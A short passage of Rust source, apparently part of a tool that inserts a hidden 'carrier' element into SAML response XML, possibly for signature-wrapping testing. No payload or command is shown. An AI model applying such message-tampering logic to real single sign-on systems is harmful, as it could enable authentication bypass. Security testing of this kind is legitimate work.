        }
        _ => {
            // ArtifactResponse has no place in a Response: after everything.
            let at = content_end(xml, root);
            vec![(at..at, samlp_carrier(slot, hidden, root))]
        }
    })
}
